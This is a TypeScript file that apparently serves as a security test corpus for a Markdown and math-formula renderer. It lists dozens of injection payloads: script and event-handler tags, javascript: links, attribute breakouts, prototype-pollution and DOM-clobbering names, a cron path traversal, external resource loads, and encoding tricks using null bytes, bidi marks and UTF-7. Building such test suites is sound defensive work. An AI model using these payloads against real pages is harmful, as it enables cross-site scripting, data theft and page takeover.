import type { Family } from './attack.ts';

const FENCE = '```';

/** Blocks of Markdown: code, tables, footnotes, headings, and names that every object has. */
export const blocks: Family = {
  name: 'block',
  attacks: {
    info: ['a language that ends its attribute', ({ run }) => `${FENCE}js"onmouseover="${run}\n1\n${FENCE}`],
    infoTag: ['a tag as a language', ({ run }) => `${FENCE}<img/src=x/onerror=${run}>\n1\n${FENCE}`],
    infoFile: [
      'a tag as the name of a file',
      ({ run }) => `${FENCE}js title="<img src=x onerror=${run}>.js"\n1\n${FENCE}`,
    ],
    infoPath: ['a file name that climbs', () => `${FENCE}js title="../../../../etc/cron.d/x"\n1\n${FENCE}`],
    infoProto: [
      'a language that every object has',
      ({ run }) => `${FENCE}__proto__\n<img src=x onerror=${run}>\n${FENCE}`,
    ],
    infoConstructor: ['a constructor as a language', ({ run }) => `${FENCE}constructor\n${run}\n${FENCE}`],
    code: ['tags in code', ({ run }) => `${FENCE}html\n</code></pre><script>${run}</script>\n${FENCE}`],
    unclosed: ['code that nobody closes', ({ run }) => `${FENCE}html\n<script>${run}</script>`],
    inlineCode: [
      'tags in a code word',
      ({ run }) => `\`<script>${run}</script>\` and \`\`</code><img src=x onerror=${run}>\`\``,
    ],
    diff: ['code that colours could take for tags', ({ run }) => `${FENCE}diff\n+<img src=x onerror=${run}>\n${FENCE}`],
    cell: [
      'tags in a table',
      ({ run }) => `| a | b |\n|---|---|\n| <img src=x onerror=${run}> | <script>${run}</script> |`,
    ],
    cellStyle: ['an alignment that ends its attribute', ({ run }) => `| a |\n|:-"onmouseover="${run}-:|\n| b |`],
    footnote: [
      'the name of a footnote',
      ({ run }) => `A[^<img/src=x/onerror=${run}>]\n\n[^<img/src=x/onerror=${run}>]: note`,
    ],
    footnoteWords: [
      'tags in a footnote',
      ({ run }) => `A[^1]\n\n[^1]: <svg onload=${run}> [press me](javascript:${run})`,
    ],
    footnoteProto: [
      'footnotes that every object has',
      () => 'A[^__proto__] B[^constructor] C[^toString]\n\n[^__proto__]: one\n\n[^constructor]: two',
    ],
    heading: ['tags in a heading', ({ run }) => `# <img src=x onerror=${run}>\n\n## " onmouseover="${run}`],
    headingProto: [
      'headings that become names of the page',
      () => '# __proto__\n\n# location\n\n# cookie {#currentScript}',
    ],
    definitionProto: [
      'definitions that every object has',
      ({ run }) =>
        `[a][__proto__] [b][constructor]\n\n[__proto__]: javascript:${run}\n[constructor]: javascript:${run}`,
    ],
    list: [
      'tags in lists',
      ({ run }) => `- <img src=x onerror=${run}>\n  1. <script>${run}</script>\n- [ ] <input onfocus=${run} autofocus>`,
    ],
    quote: ['tags in quotes', ({ run }) => `> > <svg/onload=${run}>\n>\n> <details open ontoggle=${run}>`],
    emphasis: [
      'tags between marks',
      ({ run }) => `**<b onmouseover=${run}>x** _<i onclick=${run}>y_ ~~<s onclick=${run}>z~~`,
    ],
    entityTag: [
      'a tag as entities',
      ({ run }) => `&lt;img src=x onerror=${run}&gt; &#60;script&#62;${run}&#60;/script&#62;`,
    ],
    entityTwice: ['a tag as entities of entities', ({ run }) => `&amp;lt;img src=x onerror=${run}&amp;gt;`],
    escapes: ['escapes in front of tags', ({ run }) => `\\<img src=x onerror=${run}> \\\\<img src=x onerror=${run}>`],
    citation: [
      'a number that is no source',
      ({ run }) => `[1](javascript:${run}) [^1^] 【1†<img src=x onerror=${run}>】`,
    ],
    allowedTag: [
      'an attribute on a tag that is allowed',
      ({ run }) => `<kbd onmouseover=${run}>x</kbd> <sub style="x:expression(${run})">y</sub>`,
    ],
    lineBreak: ['an attribute on a line break', ({ run }) => `a<br onmouseover=${run}>b<br/onclick=${run}>`],
    comment: [
      'a comment that ends early',
      ({ run }) => `<!--><script>${run}</script>-->\n\n<!-- --!><img src=x onerror=${run}> -->`,
    ],
    instruction: [
      'an instruction and a section of data',
      ({ run }) => `<?x ><img src=x onerror=${run}>?>\n\n<![CDATA[><img src=x onerror=${run}>]]>`,
    ],
    replacement: ['patterns that a replacement expands', ({ run }) => `$& $' $\` $1 $<a> <img src=x onerror=${run}>`],
    template: [
      'expressions of template languages',
      ({ run }) => `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> #{${run}}`,
    ],
    surrogates: ['halves of characters', ({ run }) => `\ud800<img src=x onerror=${run}>\udfff`],
    nulls: [
      'null characters inside tags',
      ({ run }) => `<scr\0ipt>${run}</script> <img src=x on\0error=${run}> [x](java\0script:${run})`,
    ],
    bidi: [
      'words that read as others',
      ({ run }) => `\u202e>${run}=rorreno x=crs gmi<\u202c \u2066<img src=x onerror=${run}>\u2069`,
    ],
    separators: ['line separators inside tags', ({ run }) => `<img\u2028src=x\u2029onerror=${run}>`],
    shiftedBytes: [
      'tags in other encodings',
      ({ run }) => `+ADw-script+AD4-${run}+ADw-/script+AD4- \u001b$B<script>${run}</script>\u001b(B`,
    ],
  },
};

/** Formulas. */
export const formulas: Family = {
  name: 'formula',
  attacks: {
    link: ['a script as a link', ({ run }) => `$$\\href{javascript:${run}}{press me}$$`],
    linkDisguised: [
      'a script as a link, disguised',
      ({ run }) => `$\\href{java\\script:${run}}{x}$ $\\url{javascript:${run}}$`,
    ],
    picture: ['a picture of another host', ({ at }) => `$$\\includegraphics[width=9em]{${at}}$$`],
    style: ['a style with an address', ({ at }) => `$$\\htmlStyle{background-image:url(${at})}{x}$$`],
    className: ['a class that ends its attribute', ({ run }) => `$$\\htmlClass{x" onmouseover="${run}}{x}$$`],
    id: ['an id that hides a name of the page', () => '$$\\htmlId{currentScript}{x} \\htmlId{location}{y}$$'],
    data: ['data that end their attribute', ({ run }) => `$$\\htmlData{a=" onmouseover="${run}}{x}$$`],
    text: ['tags in words', ({ run }) => `$$\\text{<img src=x onerror=${run}>} \\verb|<svg onload=${run}>|$$`],
    macro: ['a macro that makes a link', ({ run }) => `$$\\def\\a#1{\\href{javascript:#1}{x}}\\a{${run}}$$`],
    global: [
      'a macro that changes all formulas',
      ({ run }) => `$$\\gdef\\frac#1#2{\\href{javascript:${run}}{x}}\\frac12$$`,
    ],
    colour: [
      'a colour that ends its style',
      ({ at }) => `$$\\textcolor{red;background:url(${at})}{x} \\colorbox{url(${at})}{y}$$`,
    ],
    size: ['a size that covers the page', () => '$$\\rule{99999em}{99999em} \\kern-99999em \\raisebox{9999em}{x}$$'],
    proto: ['macros that every object has', () => '$$\\__proto__ \\constructor \\toString{x}$$'],
    annotation: [
      'tags in the source that formulas keep',
      ({ run }) => `$$x </annotation></semantics></math><img src=x onerror=${run}>$$`,
    ],
    broken: ['tags in what cannot be read', ({ run }) => `$$\\frac{<img src=x onerror=${run}>$$`],
    raw: [
      'a formula as tags',
      ({ run }) =>
        `<math href="javascript:${run}"><maction actiontype="statusline#${run}" xlink:href="javascript:${run}">press me</maction></math>`,
    ],
  },
};
